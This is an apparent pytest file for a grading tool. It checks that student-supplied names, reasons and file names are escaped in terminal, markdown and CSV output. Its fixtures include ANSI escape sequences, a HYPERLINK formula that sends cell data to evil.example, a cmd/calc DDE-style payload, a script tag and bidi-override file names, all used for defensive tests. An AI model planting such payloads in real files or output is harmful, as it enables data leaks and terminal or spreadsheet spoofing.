"""Student text (names, reasons, printed output) made inert on a terminal, in markdown and in CSV."""
from __future__ import annotations

import csv
import re

import pytest

from grader import collect, report, text
from grader.results import GradingResult

# Clears the screen, sets the terminal's title, moves the cursor and prints a fake progress line.
ANSI = "\x1b[2J\x1b]0;pwned\x07\x1b[1A\r[1/1] s001  10/10  graded"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FILE_FORMULA = '=HYPERLINK("evil.example?"&A1,"click")'  # the same as a file name: no slash


def no_controls(s: str) -> bool:
    return not re.search(r"[\x00-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", s)


@pytest.mark.parametrize("raw, shown", [
    ("\x1b[31mred", "\\x1b[31mred"),
    ("a\nb\r\nc\td", "a\\nb\\r\\nc\\td"),
    ("nul\x00 del\x7f csi\x9b", "nul\\x00 del\\x7f csi\\x9b"),
    ("evil\u202egnp.exe", "evil\\u202egnp.exe"),
    ("\u2066iso\u2069 \u200emark\u200f", "\\u2066iso\\u2069 \\u200emark\\u200f"),
    ("bad byte \udcff", "bad byte \\udcff"),
    ("Zoë 学生 (1).ipynb", "Zoë 学生 (1).ipynb"),
])
def test_terminal_shows_control_and_format_characters_as_escapes(raw, shown):
    assert text.terminal(raw) == shown
    assert text.terminal(shown) == shown  # applying it twice changes nothing
    shown.encode("utf-8")  # no lone surrogate left to crash a print


def test_terminal_keeps_one_line_and_a_limit():
    out = text.terminal(ANSI + "\n" * 50, limit=40)
    assert len(out) == 40 and no_controls(out) and "\n" not in out


def test_markdown_cell_cannot_break_the_table_or_render_markup():
    cell = text.markdown_cell("a | b\nc `code` <script>alert(1)</script> *bold* _em_ "
                              "[x](https://evil.example) $x$ &amp;")
    assert not re.search(r"(?<!\\)\|", cell)  # every pipe escaped
    assert "<" not in cell and ">" not in cell and "`" not in cell and "&amp;amp;" in cell
    assert "\\*bold\\*" in cell and "\\_em\\_" in cell and "\\[x\\]\\(https\\://evil" in cell and "\\$x\\$" in cell
    assert "\\n" in cell and "\n" not in cell
    assert text.markdown_cell("kernel_dies") == "kernel_dies"  # snake_case never emphasises: left as is
    assert text.markdown_cell("see www.evil.example") == "see www\\.evil.example"


@pytest.mark.parametrize("raw", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\u00a0\u3000=1",
                                 "\uff1dcmd|' /C calc'!A0", "\uff0b1", "\uff0d1", "\uff20x"])
def test_csv_cell_never_starts_a_formula(raw):
    cell = text.csv_cell(raw)
    assert cell.startswith("'") or cell.startswith("\\"), cell
    assert no_controls(cell)


def test_csv_cell_leaves_ordinary_text_alone():
    assert text.csv_cell("s001/Copy of craft_lab (1).ipynb") == "s001/Copy of craft_lab (1).ipynb"
    assert text.csv_cell("") == ""


# ----------------------------------------------------------------------------- where the text goes

def hostile_results():
    return [GradingResult("s001", status="failed", reason="boom | broken\n" + ANSI, file=FORMULA + ".ipynb",
                          notes=["-cmd", "\x1b[8mhidden"]),
            GradingResult("s\x1b[31m002", status="review", reason=FORMULA),
            GradingResult("s003", status="graded", file="s003/craft_lab.ipynb")]


SCORES = {"s001": {"t1": 0.0}, "s\x1b[31m002": {"t1": 1.0}, "s003": {"t1": 2.0}}


def test_results_csv_cells_are_inert_and_scores_stay_numbers(tmp_path):
    report.write_results(hostile_results(), SCORES, ["t1"], {"t1": 2.0}, tmp_path / "results.csv")
    raw = (tmp_path / "results.csv").read_text()
    assert "\x1b" not in raw
    rows = {r["student_id"]: r for r in csv.DictReader(open(tmp_path / "results.csv"))}
    s001 = rows["s001"]
    assert s001["file"] == "'" + FORMULA + ".ipynb" and s001["notes"] == "'-cmd | \\x1b[8mhidden"
    assert s001["reason"] == "boom | broken\\n" + text.terminal(ANSI)
    assert rows["s\\x1b[31m002"]["reason"] == "'" + FORMULA
    assert [float(rows[s]["score"]) for s in sorted(rows)] == [0.0, 2.0, 1.0]
    assert all(float(r["t1"]) >= 0 and float(r["max_score"]) == 2.0 for r in rows.values())


def test_summary_md_rows_keep_their_cells(tmp_path):
    report.write_summary(hostile_results(), SCORES, ["t1"], {"t1": 2.0}, tmp_path / "summary.md")
    md = (tmp_path / "summary.md").read_text()
    assert no_controls(md.replace("\n", ""))
    section = md.split("## Needs a look")[1].strip().splitlines()
    rows = section[2:]
    assert len(rows) == 2  # one line per submission that needs a look: the newline did not split one
    for row in rows:
        assert len(re.split(r"(?<!\\)\|", row)) == 6, row  # 4 cells between 5 unescaped pipes
    s001 = next(row for row in rows if row.startswith("| s001 |"))
    assert "boom \\| broken\\\\n\\\\x1b\\[2J" in s001  # shown as: boom | broken\n\x1b[2J
    assert any(row.startswith("| s\\\\x1b\\[31m002 |") and "=HYPERLINK\\(&quot;" in row for row in rows)


def test_waiting_lines_escape_the_student(tmp_path):
    lines = report.waiting_lines([GradingResult("a|b", status="graded")], {"a|b": ["w1"]}, {"w1": 1.0}, tmp_path)
    assert lines[-1] == "| a\\|b | w1 |"


def test_the_printed_tables_are_terminal_safe():
    rows = report.student_rows(hostile_results(), SCORES, ["t1"], {"t1": 2.0})
    table = report.table_text(rows, report.STUDENT_HEADER)
    assert no_controls(table.replace("\n", "")) and len(table.splitlines()) == 2 + 3
    assert "s\\x1b[31m002" in table and all(len(row[3]) <= 100 for row in rows)


def test_progress_line_is_one_inert_line():
    from grader import batch

    merger = batch.Merger(None, None, [("s001", None, None)], {}, ["t1"], {"t1": 2.0}, print)
    merger.done = 1
    line = merger.progress_line(GradingResult("s\x1b[2J001", status="failed", reason=ANSI + "\nmore"))
    assert "\n" not in line and "\r" not in line and no_controls(line)
    assert line.startswith("[1/1] s\\x1b[2J001") and "\\x1b]0;pwned\\x07" in line


def test_collect_phase_lines_and_collect_csv_are_inert(course, tmp_path, capsys):
    from grader import batch

    inbox, out = tmp_path / "in", tmp_path / "out"
    for path in (inbox / "\x1b[2J\x1b]0;pwned\x07evil" / "Copy of craft_lab.ipynb",
                 inbox / f"{FILE_FORMULA}.ipynb", inbox / "s001" / "craft_lab.ipynb"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text('{"cells": []}')
    out.mkdir()
    lines = []
    found, _ = batch.collect_phase(course, batch.Options(submissions=inbox, out=out), out, lines.append)
    assert list(found.submissions) == ["s001"]
    assert all(no_controls(line) for line in lines)
    unmapped = [line for line in lines if line.startswith("  UNMAPPED: ")]
    assert any(line.startswith("  UNMAPPED: \\x1b[2J\\x1b]0;pwned\\x07evil/Copy of") for line in unmapped)
    rows = list(csv.reader(open(out / "collect.csv")))
    files = [r[0] for r in rows[1:]]
    assert "'" + FILE_FORMULA + ".ipynb" in files and "\\x1b[2J\\x1b]0;pwned\\x07evil/Copy of craft_lab.ipynb" in files
    assert "\x1b" not in (out / "collect.csv").read_text()


def test_collect_csv_cells_are_inert(tmp_path):
    found = collect.Collection(root=tmp_path, files=[
        collect.Found(path=tmp_path / "x", relpath="@x.ipynb", reason="-1 | \x1b[2J")])
    collect.write_report(found, tmp_path / "collect.csv")
    row = list(csv.DictReader(open(tmp_path / "collect.csv")))[0]
    assert row["file"] == "'@x.ipynb" and row["reason"] == "'-1 | \\x1b[2J"
